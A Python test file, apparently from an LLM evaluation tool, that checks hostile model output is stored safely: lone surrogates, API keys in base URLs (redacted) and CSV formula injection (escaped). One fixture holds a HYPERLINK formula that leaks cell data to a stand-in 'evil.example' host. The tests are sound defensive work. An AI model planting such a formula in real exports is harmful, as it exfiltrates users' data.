"""Hostile text from a model or a file is stored safely: lone surrogates, formulas in CSV, keys in URLs."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import duckdb
import pytest

from egur_core.app.results_data import problems_csv
from egur_core.app.services import build_client, build_tools
from egur_core.evals.run_records import run_report
from egur_core.llm import simulated_settings
from egur_core.llm.json_repair import extract_json
from egur_core.memory.database import MemoryFile, close_idle_files
from egur_core.memory.ops import AddNote
from egur_core.memory.records import ExecutionRecord, ProblemResult
from egur_core.memory.store import MemoryStore
from egur_core.reasoner.loop import LoopConfig
from egur_core.runtime.engine import Runtime
from egur_core.strategy.model import Strategy
from tests.fakes.openai_server import FakeOpenAIServer, settings_for
from tests.reasoner.loop_runner import run_loop

pytestmark = pytest.mark.timeout(120)

COT = Strategy.model_validate({"name": "cot", "steps": [{"id": "think", "op": "llm", "prompt": "{problem}", "out": "r"},
                                                        {"id": "final", "op": "answer", "from": "r"}]})


@pytest.fixture
def store() -> MemoryStore:
    return MemoryStore(duckdb.connect(":memory:"))


def test_a_reply_with_a_lone_surrogate_is_stored_and_the_run_goes_on(store):
    with FakeOpenAIServer("text_only") as server:
        server.push_reply("Counting gives \ud800 so the answer is 4")

        async def go():
            client = build_client(settings_for(server))
            try:
                return await Runtime(client, build_tools()).execute(COT, "2 + 2?")
            finally:
                await client.aclose()

        result = asyncio.run(go())
    assert result.ok and "\ufffd" in result.answer
    run_id = store.create_run(benchmark="sat3", n_problems=1)
    store.start_problem(run_id, 0, "p0", "2 + 2?", None, "sat3")
    store.record_execution(ExecutionRecord(run_id=run_id, idx=0, strategy=COT, answer=result.answer,
                                           trace=[t.model_dump() for t in result.trace]))
    assert "\ufffd" in store.executions_for(run_id, 0)[0]["answer"]


def test_an_escaped_lone_surrogate_in_a_json_reply_becomes_a_storable_note(store):
    op = extract_json('{"op": "add_note", "text": "Mind the \\ud83d trap"}')
    store.apply(AddNote(text=op["text"]), "consolidator")
    assert store.list_notes()["text"][0] == "Mind the \ufffd trap"


URL_KEY = "sk-in-the-url-DO-NOT-LEAK-77"


def test_a_key_inside_the_base_url_is_redacted_wherever_it_is_stored_or_shown(tmp_path):
    settings = simulated_settings(seed=1)
    settings.endpoints["default"].base_url = f"http://user:{URL_KEY}@gateway.local/v1?api-key={URL_KEY}"
    memory = MemoryFile(tmp_path / "m.duckdb", linger_s=0)
    run_id, _ = run_loop(memory, LoopConfig(benchmark="sat3", n=1, k=1, seed=1), settings=settings)
    with memory.session() as store:
        report = json.dumps(run_report(store, run_id), default=str)
    close_idle_files()
    assert URL_KEY not in report and "http://user:***@gateway.local" not in report
    assert "http://***@gateway.local/v1?api-key=***" in report
    assert URL_KEY.encode() not in (tmp_path / "m.duckdb").read_bytes()
    assert URL_KEY not in json.dumps(settings.safe_dict())


def test_a_formula_an_answer_starts_with_is_escaped_in_the_per_problem_csv(store):
    run_id = store.create_run(benchmark="sat3", n_problems=2)
    for idx, answer in enumerate(['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "@SUM(1+1)"]):
        store.start_problem(run_id, idx, f"p{idx}", "text", None, "sat3")
        store.finish_problem(ProblemResult(run_id=run_id, idx=idx, answer=answer, correct=False))
    rows = list(csv.DictReader(io.StringIO(problems_csv(store, [run_id]).decode())))
    assert [r["answer"][:2] for r in rows] == ["'=", "'@"]
